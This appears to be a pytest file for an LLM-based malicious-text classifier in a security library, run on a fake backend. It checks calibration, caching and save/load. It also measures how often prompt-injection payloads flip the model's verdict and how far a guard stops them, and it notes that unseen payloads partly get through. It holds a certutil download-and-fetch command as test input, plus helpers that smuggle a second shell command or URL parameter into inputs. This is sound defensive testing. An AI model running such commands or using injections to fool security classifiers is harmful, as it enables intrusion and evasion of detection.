"""The LLM teacher's contract, ledger use, calibration and injection check, on a fake backend."""

from __future__ import annotations

import numpy as np
import pytest

from distilsec.bundle import load_model
from distilsec.errors import ConfigError, DataError, NotFittedError
from distilsec.registry import create
from distilsec.teachers.llm.injection import FRESH_INJECTIONS, INJECTIONS, flip_rate, inject
from distilsec.teachers.llm.teacher import LLMTeacher
from tests.conftest import make_texts
from tests.teachers.llm.fakes import FakeLLMBackend


def _teacher(tmp_path, backend=None, **kw):
    params = {"ledger": str(tmp_path / "ledger.sqlite"), "progress": False, **kw}
    return LLMTeacher(**params).connect(backend or FakeLLMBackend())


def test_contract_and_calibration_fixes_the_bias(tmp_path):
    texts, labels, _ = make_texts(200, seed=0)
    val_texts, val_labels, _ = make_texts(120, seed=1)
    teacher = _teacher(tmp_path, n_shots=2)
    assert teacher.fit(texts, labels, calibration_texts=val_texts, calibration_y=val_labels) is teacher
    assert teacher.classes_ == ["benign", "malicious"]
    assert len(teacher.shots_) == 4 and {c for _, c in teacher.shots_} == {"benign", "malicious"}
    test_texts, test_labels, _ = make_texts(100, seed=2)
    p = teacher.predict_proba(test_texts)
    assert p.shape == (100, 2) and np.allclose(p.sum(axis=1), 1.0)
    raw = teacher.predict_proba_uncalibrated(test_texts)
    truth = np.array(test_labels) == "malicious"
    # the fake leans "malicious" like a small LLM; calibration corrects the decisions
    assert (raw[:, 1] > 0.5)[~truth].mean() > 0.5
    assert (p[:, 1] > 0.5)[~truth].mean() < 0.2
    rep = teacher.fit_report_
    assert rep["before"]["fpr"] > rep["after_in_sample"]["fpr"]


def test_ledger_makes_a_rerun_free_and_separates_prompts(tmp_path):
    texts, labels, _ = make_texts(60)
    backend = FakeLLMBackend()
    teacher = _teacher(tmp_path, backend, calibration="none").fit(texts, labels)
    teacher.predict_proba(texts)
    n = len(backend.calls)
    assert teacher.last_run_.calls == len(set(texts)) == n
    teacher.predict_proba(texts)
    assert len(backend.calls) == n and teacher.last_run_.calls == 0  # all from the ledger
    other = _teacher(tmp_path, backend, calibration="none", n_shots=1).fit(texts, labels)
    assert other.signature != teacher.signature  # other shots: other template, other ledger rows
    other.predict_proba(texts[:5])
    assert len(backend.calls) == n + len(set(texts[:5]))


def test_save_load_gives_identical_probabilities(tmp_path):
    texts, labels, _ = make_texts(80)
    teacher = _teacher(tmp_path).fit(texts, labels)
    p = teacher.predict_proba(texts[:20])
    bundle = teacher.save(tmp_path / "bundle")
    assert sorted(f.name for f in bundle.iterdir()) == ["manifest.json"]  # no weights, no pickle
    again = load_model(bundle)
    assert isinstance(again, LLMTeacher)
    again.connect(FakeLLMBackend())
    assert again.get_params() == teacher.get_params()
    assert np.allclose(again.predict_proba(texts[:20]), p)


def test_same_seed_same_shots_and_probabilities(tmp_path):
    texts, labels, _ = make_texts(120)
    a = _teacher(tmp_path, random_state=3).fit(texts, labels)
    b = _teacher(tmp_path, random_state=3).fit(texts, labels)
    c = _teacher(tmp_path, random_state=4).fit(texts, labels)
    assert a.shots_ == b.shots_ and a.shots_ != c.shots_
    np.testing.assert_allclose(a.predict_proba(texts[:10]), b.predict_proba(texts[:10]))


def test_registry_and_unfitted_and_bad_params(tmp_path):
    t = create("llm.v1", {"task": "url", "ledger": None})
    assert isinstance(t, LLMTeacher)
    with pytest.raises(NotFittedError):
        t.predict_proba(["x"])
    texts, labels, _ = make_texts(40)
    with pytest.raises(ConfigError, match="label_words"):
        _teacher(tmp_path, label_words={"phish": "p"}).fit(texts, labels)
    with pytest.raises(DataError, match="two classes"):
        _teacher(tmp_path).fit(texts[:3], ["benign"] * 3)
    with pytest.raises(DataError, match="max_calls"):
        _teacher(tmp_path, calibration="none", max_calls=2).fit(texts, labels).predict_proba(texts)


def test_label_words_map_classes_to_words(tmp_path):
    texts, labels, _ = make_texts(60)
    backend = FakeLLMBackend()
    teacher = _teacher(tmp_path, backend, label_words={"malicious": "attack", "benign": "normal"}, calibration="none")
    teacher.fit(texts, labels)
    assert "normal or attack" in teacher.template().system()
    assert teacher.predict(["certutil -urlcache http://x/a.exe"])[0] == "malicious"


def test_content_free_calibration(tmp_path):
    texts, labels, _ = make_texts(60)
    teacher = _teacher(tmp_path, calibration="contextual").fit(texts, labels)
    assert teacher.calibrator_.bias[1] < 0  # the 'malicious' lean is taken out


def test_injection_flip_rate_and_guard(tmp_path):
    texts, labels, _ = make_texts(80)
    bad = [t for t, y in zip(texts, labels, strict=True) if y == "malicious"][:10]
    careful = _teacher(tmp_path, calibration="none").fit(texts, labels)
    safe = flip_rate(careful, bad)
    assert safe["n_injected"] == safe["n_samples"] * len(INJECTIONS) * 2
    assert safe["flip_rate"] == 0.0
    naive = _teacher(tmp_path, FakeLLMBackend(obey=True), calibration="none", injection_guard="none")
    naive.fit(texts, labels)
    assert flip_rate(naive, bad)["flip_rate"] > 0.5  # the measurement can fail: an obedient model flips
    naive.injection_guard = "max"  # same model, guarded: injected text is scored away
    guarded = flip_rate(naive, bad)
    assert guarded["flip_rate"] == 0.0 and naive.guard_hits_ == guarded["n_injected"]
    fresh = flip_rate(naive, bad, payloads=FRESH_INJECTIONS)
    assert 0.0 < fresh["flip_rate"] < 1.0  # payloads the guard was not written for: some get through
    naive.injection_guard = "flag"
    assert flip_rate(naive, bad)["flip_rate"] == 0.0
    assert inject("http://a.com/x?y=1", "p", "suffix", "url") == "http://a.com/x?y=1&note=p"
    assert inject("ls", "p", "prefix", "cmdline") == "echo 'p'; ls"


def test_guard_leaves_clean_inputs_alone(tmp_path):
    texts, labels, _ = make_texts(80)
    backend = FakeLLMBackend()
    teacher = _teacher(tmp_path, backend, calibration="none").fit(texts, labels)
    n = len(backend.calls)
    teacher.predict_proba(texts[:20])
    assert teacher.guard_hits_ == 0 and len(backend.calls) - n == len(set(texts[:20]))
